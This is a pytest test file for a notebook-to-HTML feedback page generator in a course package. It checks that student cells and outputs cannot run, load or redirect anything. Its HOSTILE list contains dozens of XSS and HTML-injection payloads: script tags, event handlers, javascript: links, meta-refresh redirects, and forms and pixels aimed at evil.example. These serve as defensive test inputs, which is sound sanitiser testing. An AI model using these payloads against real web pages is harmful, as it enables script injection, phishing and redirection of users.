"""A page of feedback shows what a learner wrote, but runs, loads and redirects nothing."""

import base64
import html.parser
import re

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from minibert.course import feedback

HOSTILE = [
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "<META HTTP-EQUIV=refresh CONTENT=0;url=//evil.example>",
    '</div></section></body></html><meta http-equiv=refresh content="0;url=//evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=a><button>Log in</button></form>',
    '<button formaction="https://evil.example/">x</button>',
    "<style>@import url(https://evil.example/x.css); body { display: none }</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img srcset="https://evil.example/pixel.png 1x">',
    "<body onload=alert(1)><p onclick=alert(1) onmouseover=alert(1)>x</p>",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) [d](vbscript:x)",
    '<a href="jav&#x09;ascript:alert(1)">x</a><a href=" javascript:alert(1)">y</a>',
    '<a href="//evil.example">x</a> <a href="../other-student.html">y</a> <a href="file:///">z</a>',
    '<a href="https://evil.example" target="_top" ping="https://evil.example">x</a>',
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=x&gt;">',
    '<math href="javascript:alert(1)">x</math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src=//evil.example></iframe>',
    "<object data=//evil.example></object><embed src=//evil.example><applet code=x></applet>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template><dialog open>x</dialog>',
    '<video src=//evil.example autoplay></video><audio src=//evil.example></audio>',
    "<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>",
    "<a id=words_1 name=words_1>here</a><p class=named>16 of 16</p>",
    "<frameset><frame src=//evil.example></frameset>",
    "![x](https://evil.example/pixel.png) ![y](javascript:alert(1))",
    "<https://evil.example> <javascript:alert(1)>",
    "`</code><script>alert(1)</script>`",
    "```\n</pre><script>alert(1)</script>\n```",
    "$</p><script>alert(1)</script>$ $$<img src=x onerror=alert(1)>$$",
]  # fmt: skip
SWALLOWING = [
    "<!-- never closed", "<plaintext>", "<textarea>", "<xmp>", "<title>", "<style>", "<script>",
    "<noscript>", "<svg><desc>", "<math><annotation-xml>", "<select><option>", "<table><tr><td>",
    "<![CDATA[", "<iframe>", "<noframes>", "<div " + "a" * 1000, "<a href='",
    "</section></body></html>",
]  # fmt: skip


class Tags(html.parser.HTMLParser):
    """Every tag of a page with its attributes, and its text."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.open, self.text = [], [], ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self.open.append(tag)

    def handle_endtag(self, tag):
        if tag in self.open:
            while self.open.pop() != tag:
                pass

    def handle_data(self, data):
        self.text += data


def page_of(*cells, grades=None):
    return feedback.page(new_notebook(cells=list(cells)), "03_attention", grades or {})


def shown(data):
    return new_code_cell("x", outputs=[new_output("display_data", data=data)])


PLACES = {
    "a markdown cell": lambda text: new_markdown_cell(text),
    "an output in HTML": lambda text: shown({"text/html": text}),
    "an output in Markdown": lambda text: shown({"text/markdown": text}),
    "an SVG": lambda text: shown({"image/svg+xml": f"<svg>{text}</svg>"}),
    "a picture": lambda text: shown({"image/png": text}),
    "its other types": lambda text: shown({"text/latex": text, "application/javascript": text}),
    "plain text": lambda text: shown({"text/plain": text}),
    "what is printed": lambda text: new_code_cell(
        "x", outputs=[new_output("stream", name="stdout", text=text)]
    ),
    "an error": lambda text: new_code_cell(
        "x", outputs=[new_output("error", ename=text, evalue=text, traceback=[text])]
    ),
    "code": lambda text: new_code_cell(text),
    "a raw cell": lambda text: new_raw_cell(text),
    "an attachment": lambda text: new_markdown_cell(
        "![x](attachment:a)", attachments={"a": {text: text}, text: {"image/png": text}}
    ),
}


def harmless(page):
    """Whether nothing but the page's own head can run, load, redirect or restyle anything."""
    head, _, body = page.partition("</head>")
    assert head.count("<meta") == 2 and "default-src 'none'" in head
    for tag, attributes in Tags(body).tags:
        assert tag in feedback.TAGS | {"body", "section", "header"}, tag
        allowed = {"href", "rel", "src", "alt", "colspan", "rowspan"}
        ours = {"section": {"class", "id"}, "span": {"class"}, "div": {"class"}}.get(tag, set())
        assert set(attributes) <= allowed | ours, (tag, attributes)
        assert re.match(r"(https?|mailto):", attributes.get("href", "https:")), attributes
        assert re.match(
            r"data:image/[a-z+]+;base64,[\w+/=]*$", attributes.get("src", "data:image/png;base64,")
        )
    return True


@pytest.mark.parametrize("place", PLACES)
def test_no_cell_and_no_output_runs_loads_or_redirects(place):
    for text in [*HOSTILE, *SWALLOWING]:
        assert harmless(page_of(PLACES[place](text))), text


@pytest.mark.parametrize("place", PLACES)
def test_no_cell_swallows_the_next_one_or_takes_its_points(place):
    grades = {"words_1": (None, 2.0)}
    mark = {"nbgrader": {"grade_id": "words_1"}}
    for text in [*SWALLOWING, *HOSTILE]:
        cells = PLACES[place](text), new_markdown_cell("the next answer", metadata=mark)
        found = Tags(page_of(*cells, grades=grades))
        assert "the next answer" in found.text, text
        assert [a["id"] for _, a in found.tags if "id" in a] == ["words_1"], text
        assert sum(tag == "section" for tag, _ in found.tags) == 2, text


def test_honest_answers_look_as_they_were_written():
    text = (
        "# A title\n\n**bold**, `a < b`, [a link](https://arxiv.org/abs/1810.04805) and\n\n"
        "| T | K |\n|---|---|\n| 1 | 2 |\n\n![a sketch](attachment:a.png)\n\n$a < b$"
    )
    picture = base64.b64encode(b"png").decode()
    cell = new_markdown_cell(text, attachments={"a.png": {"image/png": picture}})
    found = Tags(page_of(cell))
    tags = [tag for tag, _ in found.tags]
    assert {"h1", "strong", "code", "table", "td"} <= set(tags)
    assert (
        "a",
        {"href": "https://arxiv.org/abs/1810.04805", "rel": "noopener noreferrer"},
    ) in found.tags
    assert {"src": f"data:image/png;base64,{picture}", "alt": "a sketch"} in [
        a for _, a in found.tags
    ]
    assert "a < b" in found.text


@pytest.mark.parametrize("mime", ["image/png", "image/jpeg", "image/svg+xml"])
def test_pictures_are_shown(mime):
    raw = (
        "<svg xmlns='http://www.w3.org/2000/svg'/>"
        if "svg" in mime
        else base64.b64encode(b"x").decode()
    )
    name = """<Figure with "quotes" & 'more'>"""
    (picture,) = (
        a for tag, a in Tags(page_of(shown({mime: raw, "text/plain": name}))).tags if tag == "img"
    )
    assert picture["alt"] == name
    packed = picture["src"].removeprefix(f"data:{mime};base64,")
    assert (base64.b64decode(packed).decode() if "svg" in mime else packed) == raw


def test_points_stand_at_the_checks_and_at_the_top():
    mark = lambda name: {"nbgrader": {"grade_id": name}}
    cells = [new_code_cell("1", metadata=mark(name)) for name in ("check_a", "b", "check_c")]
    grades = {"check_a": (1.5, 2.0), "b": (None, 3.0), "check_c": (0.0, 4.0)}
    text = Tags(page_of(*cells, grades=grades)).text
    assert "1.5 of 9 points, and 3 to be graded by hand" in text
    assert "check_a: 1.5 of 2" in text and "b: to be graded, 3" in text
    assert "check_c: 0 of 4" in text  # no points are points too


def test_outputs_look_as_they_do_in_a_notebook():
    """Colours of a terminal, every line of an error, a formula that has no other form."""
    red = "\x1b[31mNameError\x1b[39m"
    error = new_output("error", ename="", evalue="", traceback=["line 1", red])
    page = page_of(new_code_cell("x", outputs=[error]), shown({"text/latex": "$e = mc^2$"}))
    found = Tags(page)
    assert "line 1\nNameError" in found.text and "\x1b" not in page
    assert ("span", {"class": "ansi-red-fg"}) in found.tags and "$e = mc^2$" in found.text


@pytest.mark.parametrize("tag", ["script", "style", "title", "template", "iframe", "object"])
def test_what_a_browser_would_not_show_is_not_shown(tag):
    page = page_of(shown({"text/html": f"before <{tag}>inside</{tag}> after"}))
    text = Tags(page).text
    assert "before" in text and "after" in text and "inside" not in text


def test_what_is_too_hard_to_render_is_shown_as_text_and_at_once():
    for text in ("<div>" * 100_000, "![x](attachment:gone.png) here"):
        assert harmless(page := page_of(new_markdown_cell(text)))
        assert "here" in page or "too many tags" in page


def test_a_page_is_small():
    notebook = new_notebook(cells=[new_code_cell("1")])
    assert len(feedback.page(notebook, "x", {})) < 20_000
